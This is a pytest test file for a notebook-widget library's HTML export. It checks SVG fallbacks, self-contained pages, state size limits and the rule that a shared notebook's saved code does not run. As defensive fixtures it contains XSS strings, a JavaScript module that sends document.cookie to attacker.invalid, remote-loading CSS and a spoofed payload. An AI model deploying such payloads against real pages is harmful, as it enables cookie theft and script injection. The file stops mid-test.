"""Static rendering: saved state, exported HTML, the static SVG picture, and their safety and size.

- Every widget in :data:`WIDGETS` (one line per widget) has a static SVG fallback that is valid,
  sensibly sized XML; ``widget.to_html(path)`` writes one self-contained page whose payload
  round-trips the widget's state; its saved state on a 128-token toy-lm prompt is <= 2 MB.
- ``python -m mechwidgets export`` turns an executed notebook (state saved by nbclient) into one
  HTML file with no CDN script; widgets that cannot be drawn fall back to their picture or text.
- Untrusted strings (HTML, ``</script>``, quotes, right-to-left marks, very long tokens) stay data.
- The built JS contains no http(s) URL but XML namespaces, and the package imports no ipywidgets
  containers (both break marimo / VS Code / Colab or need the network).
- Trust: a shared notebook's saved code never runs by default. mechwidgets widgets are drawn by
  the installed bundles whatever ``_esm`` their saved state carries; other anywidgets only with
  ``trust``; ``sanitize_html`` refuses ``trust``. Markdown images are embedded only from
  attachments and image files (by content) inside the notebook's folder. NaN/Infinity in saved
  state become null; ``__proto__`` buffer paths are refused; one widget's state has a size cap;
  missing nbformat/nbconvert give an error naming the ``export`` extra.

The browser side (tests/browser/test_export_browser.py) opens what these tests write.
"""

from __future__ import annotations

import ast
import base64
import copy
import json
import re
import struct
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch

import mechwidgets
from mechwidgets import _export
from mechwidgets.errors import ExportError, MissingDependencyError
from mechwidgets.widgets._base import MechWidget

REPO = Path(__file__).resolve().parent.parent
STATIC = REPO / "mechwidgets" / "static"
SVG_NS = "{http://www.w3.org/2000/svg}"
MAX_STATE_BYTES = 2 * 1024 * 1024
MAX_SVG_BYTES = 1024 * 1024


# ------------------------------------------------------------------------------------ registry
def _attention(model: Any, prompt: Any) -> MechWidget:
    """The attention widget in a 'last view' worth saving: a head selected, a head ablated."""
    w = mechwidgets.show_attention(model, prompt)
    last = w.n_layers - 1
    w.select_head(last, 0)
    w.ablate([(0, 1 % w.n_heads)])
    return w


def _features(model: Any, prompt: Any) -> MechWidget:
    """The features widget with random SAEs on two residual hooks, a token and a feature selected."""
    from types import SimpleNamespace

    from mechwidgets.zoo import SimpleSAE, SimpleSAEConfig

    saes = []
    for i, hook in enumerate(["blocks.0.hook_resid_pre", f"blocks.{model.cfg.n_layers - 1}.hook_resid_post"]):
        g = torch.Generator().manual_seed(i)
        d_in, d_sae = model.cfg.d_model, 2 * model.cfg.d_model
        cfg = SimpleSAEConfig(d_in=d_in, d_sae=d_sae, architecture="topk", k=6, metadata=SimpleNamespace(hook_name=hook))
        sae = SimpleSAE(cfg)
        with torch.no_grad():
            sae.W_enc.copy_(torch.randn(d_in, d_sae, generator=g) * 0.4)
            sae.W_dec.copy_(torch.nn.functional.normalize(torch.randn(d_sae, d_in, generator=g), dim=-1))
        saes.append(sae.eval())
    return mechwidgets.show_features(model, saes, prompt)


def _prompt_pair(model: Any, prompt: Any) -> tuple[torch.Tensor, torch.Tensor, dict[str, int]]:
    """Clean tokens, the same with token 2 replaced by its nearest neighbour, and as answers the
    clean run's two most likely next tokens."""
    from mechwidgets.analysis.tokens import similar_tokens

    clean = model.to_tokens(prompt) if isinstance(prompt, str) else prompt
    corrupted = clean.clone()
    corrupted[0, 2] = similar_tokens(model, int(clean[0, 2]), k=1)[0]
    top2 = model(clean)[0, -1].topk(2).indices.tolist()
    return clean, corrupted, {"answer": top2[0], "wrong_answer": top2[1]}


def _patching(model: Any, prompt: Any) -> MechWidget:
    """The patching widget with one token replaced, both grids computed and a cell selected."""
    clean, corrupted, answers = _prompt_pair(model, prompt)
    w = mechwidgets.show_patching(model, clean, corrupted, **answers, components=["resid_pre", "head_out"])
    w.select_cell(0, 2)
    return w


def _circuit(model: Any, prompt: Any) -> MechWidget:
    """The circuit widget (EAP) on the prompt against one token replaced, a node selected."""
    clean, corrupted, answers = _prompt_pair(model, prompt)
    w = mechwidgets.show_circuit(model, clean, corrupted, **answers)
    w.select_node("a0.h0")
    return w


def _scrubbing(model: Any, prompt: Any) -> MechWidget:
    """The scrubbing widget: a small induction-shaped hypothesis on 24 repeated random sequences
    as long as the prompt."""
    from mechwidgets.analysis.scrubbing import HypothesisNode

    n = prompt.shape[-1] if isinstance(prompt, torch.Tensor) else len(model.to_str_tokens(prompt))
    half = (n - 1) // 2
    g = torch.Generator().manual_seed(0)
    seg = torch.randint(2, 40, (24, half), generator=g)
    extra = torch.randint(2, 40, (24, n - 1 - 2 * half), generator=g)
    bos = torch.full((24, 1), int(model.tokenizer.bos_token_id))
    data = torch.cat([bos, seg, seg, extra], 1)
    last = model.cfg.n_layers - 1
    hyp = HypothesisNode("output", children=[
        HypothesisNode(f"L{last}H0", children=[
            HypothesisNode("q", children=[HypothesisNode("embed", "token")]),
            HypothesisNode("k", children=[HypothesisNode("L0H1", "previous_token")]),
        ]),
        HypothesisNode("embed", "token"),
    ])
    return mechwidgets.show_scrubbing(model, hyp, data, n_seeds=2, min_agreeing=1)


def _lens(model: Any, prompt: Any) -> MechWidget:
    """The logit-lens widget with the clean run's two most likely tokens as answers and one head
    ablated (before vs after drawn)."""
    clean, _, answers = _prompt_pair(model, prompt)
    w = mechwidgets.show_logit_lens(model, clean, **answers)
    w.ablate(heads=[(model.cfg.n_layers - 1, 0)], mode="mean")
    return w


@dataclass(frozen=True)
class WidgetCase:
    """One widget: how to build it in a saved-worthy state, and what its drawn view must show."""

    name: str
    cls: type
    build: Callable[[Any, Any], MechWidget]  # (model, prompt) -> widget
    #: CSS selectors (inside the rendered view) that must be present once drawn from saved state
    drawn: tuple[str, ...]
    #: text the drawn view must show, as a function of the widget (e.g. the selected head)
    drawn_text: Callable[[Any], list[str]] = lambda w: []


#: Every widget, one line each: the fallback, export, size and browser tests iterate over it.
WIDGETS: list[WidgetCase] = [
    WidgetCase(
        "attention",
        mechwidgets.AttentionWidget,
        _attention,
        drawn=("[data-testid=token-strip] .mw-token", "[data-testid=thumb-grid] canvas",
               ".mw-heatmap-canvas", "[data-testid=predictions]"),
        drawn_text=lambda w: [f"L{w.selected['layer']}H{w.selected['head']} pattern"],
    ),
    WidgetCase("features", mechwidgets.FeaturesWidget, _features, drawn=("[data-testid=overview]",)),
    WidgetCase(
        "patching",
        mechwidgets.PatchingWidget,
        _patching,
        drawn=("[data-testid=clean-tokens] .mw-token", "[data-testid=exact-grid] canvas",
               "[data-testid=detail-logits]"),
        drawn_text=lambda w: ["Exact patching"],
    ),
    WidgetCase("circuit", mechwidgets.CircuitWidget, _circuit, drawn=(".mw-circuit svg",)),
    WidgetCase("scrubbing", mechwidgets.ScrubbingWidget, _scrubbing, drawn=(".mw-scrub-svg",)),
    WidgetCase(
        "lens",
        mechwidgets.LogitLensWidget,
        _lens,
        drawn=(".mw-lens-cell", "[data-testid=dla-bars] .mw-lens-bar", "[data-testid=rank-after]"),
        drawn_text=lambda w: ["after ablation"],
    ),
]
IDS = [c.name for c in WIDGETS]


def install_to_html(monkeypatch: pytest.MonkeyPatch) -> None:
    """``MechWidget.to_html`` until the base class has it (it delegates to _export.to_html)."""
    if not hasattr(MechWidget, "to_html"):
        monkeypatch.setattr(MechWidget, "to_html", _export.to_html, raising=False)


@pytest.fixture(autouse=True)
def _to_html(monkeypatch: pytest.MonkeyPatch) -> None:
    install_to_html(monkeypatch)


def test_registry_covers_every_widget() -> None:
    """A new widget class must get a line in WIDGETS (and so a fallback, export and size test)."""
    import mechwidgets.widgets as widgets_pkg

    classes = {
        obj for obj in vars(widgets_pkg).values()
        if isinstance(obj, type) and issubclass(obj, MechWidget) and obj is not MechWidget
    }
    missing = sorted(c.__name__ for c in classes - {c.cls for c in WIDGETS})
    assert not missing, f"add a WidgetCase line to tests/test_export.py:WIDGETS for {missing}"


# ------------------------------------------------------------------------------------ models
def long_prompt_tokens(model: Any, n_positions: int = 128) -> torch.Tensor:
    """``[1, n_positions]`` tokens (BOS first) of ordinary text, cut to exactly n_positions."""
    words = "When Mary and John went to the store , John gave a drink to Mary . the cat sat on the mat and then ran ."
    text = " ".join([words] * 20)
    toks = model.to_tokens(text)
    assert toks.shape[1] >= n_positions
    return toks[:, :n_positions]


def toy_lm_or_skip() -> Any:
    from mechwidgets import zoo

    return zoo.load("toy-lm")  # shipped with the package: a failure to load fails the test


@pytest.fixture(scope="module")
def toy_shaped_model(make_model: Callable[..., Any]) -> Any:
    """A random model of toy-lm's shape (4 layers, d_model 128, 4 heads, n_ctx 128)."""
    return make_model(n_layers=4, d_model=128, n_heads=4, d_head=32, d_mlp=512, n_ctx=128)


@pytest.fixture(scope="module", params=WIDGETS, ids=IDS)
def case_widget(request: pytest.FixtureRequest, model: Any) -> tuple[WidgetCase, MechWidget]:
    case: WidgetCase = request.param
    return case, case.build(model, "When Mary and John went to the store, John gave a drink to Mary")


# ------------------------------------------------------------------------------------ SVG fallback
def check_svg(svg: str) -> ET.Element:
    """Valid SVG XML of a sensible size; returns the root."""
    assert len(svg.encode()) < MAX_SVG_BYTES, f"static SVG is {len(svg.encode())} bytes"
    root = ET.fromstring(svg)
    assert root.tag == f"{SVG_NS}svg", root.tag
    width, height = float(root.attrib["width"]), float(root.attrib["height"])
    assert 100 <= width <= 4000 and 80 <= height <= 4000, (width, height)
    # nothing in the picture is markup or script: only drawing elements
    tags = {el.tag.replace(SVG_NS, "") for el in root.iter()}
    assert tags <= {"svg", "rect", "text", "g", "line", "path", "title", "tspan", "polyline", "circle"}, tags
    assert not [a for el in root.iter() for a in el.attrib if a.lower().startswith("on")]
    return root


def test_static_svg_fallback(case_widget: tuple[WidgetCase, MechWidget]) -> None:
    case, w = case_widget
    bundle = w._repr_mimebundle_()
    data = bundle[0] if isinstance(bundle, tuple) else bundle
    assert "image/svg+xml" in data, f"{case.name} has no static picture"
    check_svg(data["image/svg+xml"])


@pytest.mark.parametrize("case", WIDGETS, ids=IDS)
def test_static_svg_long_prompt_stays_small(case: WidgetCase, toy_shaped_model: Any) -> None:
    w = case.build(toy_shaped_model, long_prompt_tokens(toy_shaped_model))
    svg = w._static_svg()
    assert svg is not None
    check_svg(svg)
    print(f"{case.name}: static SVG for 128 tokens = {len(svg.encode()) / 1024:.0f} KiB")


# ------------------------------------------------------------------------------------ untrusted text
EVIL_TOKENS = [
    "<img src=x onerror=\"window.__xss=1\">",
    "</script><script>window.__xss=2</script>",
    "<!--",
    "\"quoted' & <b>bold</b>",
    "\u202eevil\u202c",  # right-to-left override ... pop
    "\u200fRTL",
    "\x01ctl\x1b[31m",  # control characters (not even allowed in XML 1.0)
    "<svg onload=window.__xss=3>",
    "x" * 600,  # very long token
    "${window.__xss=4}",
    "\ufffd\U0001f600\u0301",  # replacement char (a split UTF-8 byte), emoji, lone combining mark
]


def evil_widget() -> MechWidget:
    """An attention view whose tokens are hostile strings (no model needed)."""
    tokens = ["<|endoftext|>", *EVIL_TOKENS, " end"]
    n = len(tokens)
    g = torch.Generator().manual_seed(0)
    scores = torch.randn(2, 2, n, n, generator=g).masked_fill(torch.triu(torch.ones(n, n, dtype=torch.bool), 1), -1e9)
    w = mechwidgets.attention_patterns(tokens, scores.softmax(-1))
    w.select_head(1, 1)
    return w


def payload_of(page: str) -> dict[str, Any]:
    m = re.search(r'<script(?=[^>]*\sid="mw-export-data")(?=[^>]*\stype="application/json")[^>]*>(.*?)</script>', page, re.S)
    assert m, "no payload script"
    return json.loads(m.group(1))


def test_json_for_script_cannot_break_out() -> None:
    obj = {"t": EVIL_TOKENS, "k<": "</SCRIPT ><!-- -->", "sep": "\u2028\u2029"}
    text = _export.json_for_script(obj)
    for bad in ("<", ">", "&", "\u2028", "\u2029"):
        assert bad not in text
    assert not re.search(r"[^\x20-\x7e]", text), "only printable ASCII in the script body"
    assert json.loads(text) == obj


def test_untrusted_text_is_data_in_export_and_svg(tmp_path: Path) -> None:
    w = evil_widget()
    page = w.to_html(tmp_path / "evil.html")
    # the hostile strings never appear as markup anywhere in the page
    for bad in ("<img src=x", "<script>window", "<svg onload", "<b>bold", "onerror=\""):
        assert bad not in page, bad
    assert page.lower().count("</script>") == 2 and page.lower().count("<script") == 2
    assert "<!--" not in page
    state = payload_of(page)["models"][w.model_id]["state"]
    assert state["tokens"] == w.tokens  # exactly the same strings
    # the static picture: valid XML, the tokens are text nodes, escaped
    svg = w._static_svg()
    assert svg is not None
    root = check_svg(svg)
    texts = "".join(el.text or "" for el in root.iter(f"{SVG_NS}text"))
    assert "<img src=x o" in texts
    # bidi controls would reorder the labels (U+202E shows "evil" as "live"): made visible instead
    assert not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069\x00-\x08]", texts), ascii(texts)
    assert "<img" not in svg and "<script" not in svg


# ------------------------------------------------------------------------------------ one widget
def decode_buffers(entry: dict[str, Any]) -> dict[tuple[Any, ...], bytes]:
    return {tuple(b["path"]): base64.b64decode(b["data"]) for b in entry["buffers"]}


def test_to_html_is_self_contained(case_widget: tuple[WidgetCase, MechWidget], tmp_path: Path) -> None:
    case, w = case_widget
    path = tmp_path / f"{case.name}.html"
    page = w.to_html(path)
    assert path.read_text(encoding="utf-8") == page
    # nothing is loaded: no src/href to anything but data: URIs, no URL at all outside namespaces
    assert not re.search(r"""<(script|link|iframe|img)[^>]*\s(src|href)\s*=\s*(?!["']?data:)""", page, re.I)
    assert not [u for u in re.findall(r"https?://[^\s\"'<>)]+", page) if not u.startswith("http://www.w3.org/")]
    payload = payload_of(page)
    entry = payload["models"][w.model_id]
    assert entry["module"] in payload["modules"] and entry["style"] in payload["styles"]
    assert payload["modules"][entry["module"]] == w._esm
    # the payload is the widget's state: every trait, and every buffer at its path, byte-exact
    state = w.get_state()
    bufs = decode_buffers(entry)
    for key, value in state.items():
        if key in ("_esm", "_css"):
            continue
        if key in _export.STATIC_OVERRIDES:
            assert entry["state"][key] == _export.STATIC_OVERRIDES[key]
            continue
        if isinstance(value, dict) and "buffer" in value:
            assert bufs[(key, "buffer")] == bytes(value["buffer"]), key
            assert entry["state"][key]["shape"] == value["shape"]
        elif not _has_bytes(value):
            assert entry["state"][key] == json.loads(json.dumps(value)), key
    # the fallback picture is inlined too (as an <img>, so an SVG cannot run script)
    assert 'class="mw-export-picture"' in page and "data:image/svg+xml;base64," in page
    print(f"{case.name}: to_html page = {len(page.encode()) / 1024:.0f} KiB")


def _has_bytes(v: Any) -> bool:
    if isinstance(v, (bytes, bytearray, memoryview)):
        return True
    if isinstance(v, dict):
        return any(_has_bytes(x) for x in v.values())
    if isinstance(v, (list, tuple)):
        return any(_has_bytes(x) for x in v)
    return False


def test_runtime_is_inlinable() -> None:
    code = _export.runtime_js()
    assert "</script" not in code.lower() and "<!--" not in code
    assert "http://" not in code and "https://" not in code


# ------------------------------------------------------------------------------------ sizes
def _measure(case: WidgetCase, model: Any, label: str) -> int:
    tokens = long_prompt_tokens(model)
    w = case.build(model, tokens)
    n_tokens = {"patching": lambda: len(w.clean_tokens), "circuit": lambda: int(w.patcher.clean_tokens.shape[1]),
                "scrubbing": lambda: int(w.scrubber.tokens.shape[1])}.get(case.name, lambda: len(w.tokens))()
    assert n_tokens == 128
    nbytes = _export.saved_state_nbytes(w)
    esm = len(w._esm.encode()) + len(w._css.encode())
    print(f"{case.name} on {label}, 128 tokens: saved state {nbytes / 1024:.1f} KiB "
          f"(of which ES module + CSS {esm / 1024:.1f} KiB)")
    return nbytes


@pytest.mark.parametrize("case", WIDGETS, ids=IDS)
def test_saved_state_size_toy_lm(case: WidgetCase) -> None:
    model = toy_lm_or_skip()
    assert _measure(case, model, "toy-lm") <= MAX_STATE_BYTES


@pytest.mark.parametrize("case", WIDGETS, ids=IDS)
def test_saved_state_size_toy_lm_shape(case: WidgetCase, toy_shaped_model: Any) -> None:
    """Same budget on a random model of toy-lm's shape (runs even where the zoo is not built)."""
    assert _measure(case, toy_shaped_model, "a random toy-lm-shaped model") <= MAX_STATE_BYTES


# ------------------------------------------------------------------------------------ notebooks
NOTEBOOK_SETUP = """\
import sys, tempfile
from pathlib import Path
sys.path.insert(0, {tests!r})
from support import build_tokenizer, tiny_config
from transformer_lens import HookedTransformer, HookedTransformerConfig
tok = build_tokenizer(Path(tempfile.mkdtemp()))
cfg = tiny_config(); cfg["d_vocab"] = max(cfg["d_vocab"], len(tok))
model = HookedTransformer(HookedTransformerConfig(**cfg), tokenizer=tok)
model.eval();
"""

PROMPT = "When Mary and John went to the store, John gave a drink to Mary"


def write_notebook(path: Path, *, evil: bool = False) -> Path:
    """A small notebook: markdown, a model, every widget (a head selected), a slider, text."""
    import nbformat

    tests = str(Path(__file__).resolve().parent)
    cells = [
        nbformat.v4.new_markdown_cell("# Export check\n\nSome *markdown* and `code`."),
        nbformat.v4.new_code_cell(NOTEBOOK_SETUP.format(tests=tests)),
    ]
    for case in WIDGETS:
        cells.append(nbformat.v4.new_code_cell(
            f"import test_export\nw_{case.name} = test_export.WIDGETS[{IDS.index(case.name)}].build(model, {PROMPT!r})\n"
            f"w_{case.name}"
        ))
    if evil:
        cells.append(nbformat.v4.new_code_cell("import test_export\nevil = test_export.evil_widget()\nevil"))
    cells += [
        nbformat.v4.new_code_cell("import ipywidgets\nipywidgets.IntSlider(value=7, description='plain')"),
        nbformat.v4.new_code_cell("print('printed <b>text</b>')\n6 * 7"),
    ]
    nb = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    nbformat.write(nb, path)
    return path


def execute_notebook(src: Path, dest: Path) -> Path:
    """Run a notebook with nbclient, which saves the widget state into its metadata."""
    import nbformat
    from nbclient import NotebookClient

    nb = nbformat.read(src, as_version=4)
    NotebookClient(nb, timeout=600, kernel_name="python3", store_widget_state=True,
                   resources={"metadata": {"path": str(src.parent)}}).execute()
    nbformat.write(nb, dest)
    return dest


def export_cli(notebook: Path, out: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mechwidgets", "export", str(notebook), "-o", str(out), *extra],
        capture_output=True, text=True, timeout=600, check=False,
    )


def export_main(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """``python -m mechwidgets export ARGS`` in this process (the subprocess costs ~10 s of imports):
    its exit status, stdout and stderr."""
    from mechwidgets.__main__ import main

    capsys.readouterr()
    rc = main(["export", *args])
    out, err = capsys.readouterr()
    return rc, out, err


@pytest.fixture(scope="module")
def executed_notebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("nb")
    return execute_notebook(write_notebook(folder / "small.ipynb"), folder / "small_executed.ipynb")


def test_saved_notebook_state_size(executed_notebook: Path) -> None:
    nb = json.loads(executed_notebook.read_text())
    state = nb["metadata"]["widgets"]["application/vnd.jupyter.widget-state+json"]["state"]
    sizes = {s["state"].get("_anywidget_id", s["model_name"]): len(json.dumps(s)) for s in state.values()}
    print("nbclient-saved widget state (bytes):", sizes)
    assert all(v <= MAX_STATE_BYTES for v in sizes.values())


def test_export_notebook_cli(executed_notebook: Path, tmp_path: Path) -> None:
    out = tmp_path / "small.html"
    proc = export_cli(executed_notebook, out)
    assert proc.returncode == 0, proc.stderr
    assert f"{len(WIDGETS)} interactive" in proc.stdout and "1 shown as static" in proc.stdout, proc.stdout
    page = out.read_text(encoding="utf-8")
    # the notebook's own content
    assert re.search(r"<h1[^>]*>Export check", page) and "<em>markdown</em>" in page
    assert "HookedTransformerConfig" in page  # code
    assert "printed &lt;b&gt;text&lt;/b&gt;" in page and ">42<" in page  # stream + result
    # widgets: one host per mechwidget, with its saved picture as fallback; the slider as text
    payload = payload_of(page)
    hosts = re.findall(r'data-mw-model-id="([0-9a-f]+)"', page)
    assert len(hosts) == len(WIDGETS) and set(hosts) == set(payload["models"])
    assert page.count('class="mw-export-picture"') == len(WIDGETS)
    assert "IntSlider(value=7" in page
    # nothing from a CDN: no script/link with a src/href, no require.js, widget manager, MathJax
    assert not re.search(r"""<(script|link)[^>]*\s(src|href)=""", page, re.I)
    for cdn in ("require.js", "html-manager", "embed-amd", "mathjax", "unpkg", "jsdelivr", "cdnjs"):
        assert cdn not in page.lower(), cdn
    assert "application/vnd.jupyter.widget-state+json" not in page  # only our escaped payload
    # --sanitize-html cleans the notebook's own HTML, never the widget hosts
    clean = _export.export_notebook(executed_notebook, tmp_path / "clean.html", sanitize_html=True)
    assert clean.path is not None and clean.interactive == len(WIDGETS)
    assert payload_of(clean.path.read_text(encoding="utf-8"))["models"].keys() == payload["models"].keys()


def test_export_without_saved_state_falls_back(tmp_path: Path, executed_notebook: Path) -> None:
    nb = json.loads(executed_notebook.read_text())
    del nb["metadata"]["widgets"]
    src = tmp_path / "nostate.ipynb"
    src.write_text(json.dumps(nb))
    summary = _export.export_notebook(src)  # default output: next to the notebook
    assert summary.path == tmp_path / "nostate.html" and summary.static == len(WIDGETS) + 1
    assert any("no saved widget state" in w and "--execute" in w for w in summary.warnings)
    page = summary.path.read_text(encoding="utf-8")
    assert "data-mw-model-id" not in page and 'id="mw-export-data"' not in page
    # the static SVG picture is shown (nbconvert puts it in an <img>), the slider as text
    assert page.count('data-mime-type="image/svg+xml"') >= len(WIDGETS)
    assert "IntSlider(value=7" in page


def test_fallback_html_never_inlines_markup() -> None:
    evil_svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__xss=1</script></svg>'
    out = _export.fallback_html({"image/svg+xml": evil_svg, "text/plain": "x"})
    assert out.startswith("<img") and "<script" not in out and "<svg" not in out
    assert _export.fallback_html({"text/plain": "<b>t</b>"}) == "<pre>&lt;b&gt;t&lt;/b&gt;</pre>"
    assert "<img" not in _export.fallback_html({"image/png": "not base64 <script>", "text/plain": "t"})


def test_only_self_contained_anywidgets_are_drawn() -> None:
    ok = {"state": {"_esm": "export default { render({el}) { el.textContent = 'x'; } }"}}
    remote = {"state": {"_esm": 'import * as d3 from "https://esm.sh/d3@7";\nexport default {}'}}
    url = {"state": {"_esm": "https://example.com/widget.js"}}
    assert _export.is_renderable(ok)
    assert not _export.is_renderable(remote) and not _export.is_renderable(url)
    assert not _export.is_renderable({"state": {"value": 3}})  # a plain ipywidget


# ------------------------------------------------------------------------------------ environments
NAMESPACE_URLS = ("http://www.w3.org/",)


def test_built_js_has_no_urls() -> None:
    """No CDN import or fetch in the bundles: they must render offline (Colab, VS Code, marimo)."""
    files = sorted(STATIC.glob("*.js"))
    assert files, "mechwidgets/static is empty: run `npm run build`"
    found = {
        f.name: [u for u in re.findall(r"https?://[^\s\"'`<>)]+", f.read_text(encoding="utf-8"))
                 if not u.startswith(NAMESPACE_URLS)]
        for f in files
    }
    assert not any(found.values()), found


def test_package_uses_no_ipywidgets_containers() -> None:
    """Widgets are single anywidgets: ipywidgets containers (Box, Output, ...) break marimo."""
    offenders = []
    for path in (REPO / "mechwidgets").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "ipywidgets":
                offenders.append(f"{path.name}: from {node.module} import ...")
            elif isinstance(node, ast.Import) and any(a.name.split(".")[0] == "ipywidgets" for a in node.names):
                offenders.append(f"{path.name}: import ipywidgets")
    assert not offenders, offenders


# ------------------------------------------------------------------------------------ trust
#: Saved code that must never run unless the notebook is trusted: it renames the page, makes
#: requests and marks the window (tests/browser/test_export_browser.py opens what it is in).
HOSTILE_ESM = """export default { render({ el }) {
  document.title = "pwned by saved code"; window.__pwned = true;
  fetch("https://attacker.invalid/steal?c=" + encodeURIComponent(document.cookie)).catch(() => {});
  new Image().src = "https://attacker.invalid/pixel.gif";
  el.textContent = "HOSTILE CODE RAN";
} }"""
#: A harmless third-party anywidget's saved module.
BENIGN_ESM = """export default { render({ model, el }) {
  el.textContent = "benign third-party widget: " + model.get("value"); el.dataset.benign = "1";
} }"""
#: CSS that would load something from the network.
REMOTE_CSS = "@import url(https://attacker.invalid/x.css); .a { background: url(//attacker.invalid/y.png) }"
#: A fake payload that a notebook's own HTML could plant before the real one.
FAKE_PAYLOAD_HTML = (
    '<div id="mw-export-data">{"version":1,"modules":{"m":"document.title=\'pwned by a fake payload\';'
    'export default {render(){}}"},"styles":{},"models":{"fake":{"module":"m","state":{}}}}</div>'
    '<div class="mw-export-widget" data-mw-model-id="fake"></div>'
)


def small_attention() -> MechWidget:
    """A mechwidgets attention view from patterns alone (no model)."""
    tokens = ["<|endoftext|>", " Mary", " and", " John", " Mary"]
    n = len(tokens)
    g = torch.Generator().manual_seed(1)
    scores = torch.randn(2, 2, n, n, generator=g).masked_fill(torch.triu(torch.ones(n, n, dtype=torch.bool), 1), -1e9)
    return mechwidgets.attention_patterns(tokens, scores.softmax(-1))


def third_party_entry(esm: str, cls: str = "thirdparty.widgets.Counter", **state: Any) -> dict[str, Any]:
    """A saved-state entry of another package's anywidget, as JupyterLab saves it."""
    return {
        "model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "~0.9.*",
        "state": {"_anywidget_id": cls, "_esm": esm, "_css": "", "_model_name": "AnyModel",
                  "_model_module": "anywidget", "_view_name": "AnyView", "_view_module": "anywidget",
                  **state},
        "buffers": [],
    }


def mechwidget_entry(w: MechWidget, *, esm: str = HOSTILE_ESM, css: str = REMOTE_CSS) -> dict[str, Any]:
    """``w``'s saved state with a hostile ES module and CSS in place of its own."""
    entry = _export.widget_saved_state(w)
    entry["state"]["_esm"], entry["state"]["_css"] = esm, css
    return entry


def saved_state_notebook(path: Path, widgets: list[tuple[str, dict[str, Any]]], markdown: tuple[str, ...] = (),
                         attachments: dict[str, Any] | None = None) -> Path:
    """A notebook as JupyterLab saves it, built without a kernel: Markdown cells, then one cell per
    ``(model_id, entry)`` whose output is the widget view plus a fallback text
    ``fallback of <model_id>``, and the saved widget state in the metadata."""
    import nbformat

    cells = []
    for k, text in enumerate(markdown):
        cell = nbformat.v4.new_markdown_cell(text)
        if k == 0 and attachments:
            cell["attachments"] = attachments
        cells.append(cell)
    for model_id, _ in widgets:
        out = nbformat.v4.new_output("display_data", data={
            _export.WIDGET_VIEW_MIME: {"version_major": 2, "version_minor": 0, "model_id": model_id},
            "text/plain": f"fallback of {model_id}",
        })
        cells.append(nbformat.v4.new_code_cell("w", outputs=[out]))
    nb = nbformat.v4.new_notebook(cells=cells, metadata={"widgets": {_export.WIDGET_STATE_MIME: {
        "version_major": 2, "version_minor": 0, "state": dict(widgets)}}})
    path.write_text(json.dumps(nb, allow_nan=True), encoding="utf-8")  # NaN stays NaN, as Python writes it
    return path


def hostile_notebook(folder: Path) -> tuple[Path, MechWidget]:
    """A notebook whose saved state holds hostile code twice: in another package's widget and in
    a mechwidgets attention widget's own ``_esm``/``_css``; and a fake payload in its Markdown."""
    w = small_attention()
    path = saved_state_notebook(folder / "hostile.ipynb", [
        ("thirdparty1", third_party_entry(HOSTILE_ESM)),
        (w.model_id, mechwidget_entry(w)),
    ], markdown=("# Hostile\n\n" + FAKE_PAYLOAD_HTML,))
    return path, w


def benign_notebook(folder: Path) -> Path:
    return saved_state_notebook(folder / "benign.ipynb", [("benign1", third_party_entry(BENIGN_ESM, value=7))],
                                markdown=("# Benign",))


def installed(name: str) -> str:
    return (STATIC / name).read_text(encoding="utf-8")


@pytest.mark.parametrize("sanitize", [False, True], ids=["plain", "sanitize-html"])
def test_default_export_runs_no_saved_code(tmp_path: Path, sanitize: bool) -> None:
    src, w = hostile_notebook(tmp_path)
    summary = _export.export_notebook(src, tmp_path / "out.html", sanitize_html=sanitize)
    assert summary.path is not None
    page = summary.path.read_text(encoding="utf-8")
    assert "attacker.invalid" not in page and "pwned by saved code" not in page
    payload = payload_of(page)
    # the mechwidgets widget is drawn from the installed bundle and style, with its saved data
    assert list(payload["models"]) == [w.model_id]
    entry = payload["models"][w.model_id]
    assert payload["modules"] == {entry["module"]: installed("attention.js")}
    assert payload["styles"] == {entry["style"]: installed("style.css")}
    assert entry["state"]["tokens"] == w.tokens and entry["state"]["live"] is False
    # the other package's widget shows its fallback, and the summary says why and what to do
    assert "fallback of thirdparty1" in page
    assert (summary.interactive, summary.static, summary.untrusted) == (1, 1, 1)
    assert any("thirdparty.widgets.Counter" in m and "--trust" in m for m in summary.warnings), summary.warnings
    # one host, ours: the planted one in the Markdown is not a host the exporter wrote
    assert re.findall(r'<div class="mw-export-widget" data-mw-model-id="([^"]+)"', page).count(w.model_id) == 1


def test_trust_draws_other_anywidgets_from_saved_code(tmp_path: Path) -> None:
    w = small_attention()
    remote = third_party_entry('import * as d3 from "https://esm.sh/d3@7";\nexport default {}', cls="other.D3")
    src = saved_state_notebook(tmp_path / "mixed.ipynb", [
        ("benign1", third_party_entry(BENIGN_ESM, value=7, _css=".x { color: red }")),
        ("remote1", remote),
        ("css1", third_party_entry(BENIGN_ESM, cls="other.Css", value=1, _css=REMOTE_CSS)),
        (w.model_id, mechwidget_entry(w)),
    ])
    summary = _export.export_notebook(src, tmp_path / "trusted.html", trust=True)
    assert summary.path is not None
    payload = payload_of(summary.path.read_text(encoding="utf-8"))
    assert set(payload["models"]) == {"benign1", "css1", w.model_id}
    benign = payload["models"]["benign1"]
    assert payload["modules"][benign["module"]] == BENIGN_ESM and benign["state"]["value"] == 7
    assert payload["styles"][benign["style"]] == ".x { color: red }"
    assert payload["models"]["css1"]["style"] is None  # its CSS would load from the network
    # even trusted, a mechwidgets widget is drawn by the installed code, never its saved _esm
    assert payload["modules"][payload["models"][w.model_id]["module"]] == installed("attention.js")
    assert HOSTILE_ESM not in payload["modules"].values()
    assert (summary.interactive, summary.static, summary.untrusted) == (3, 1, 0)
    assert any("other.D3" in m and "URL" in m for m in summary.warnings), summary.warnings
    # without trust: none of the saved modules
    default = _export.export_notebook(src, tmp_path / "default.html")
    assert default.path is not None
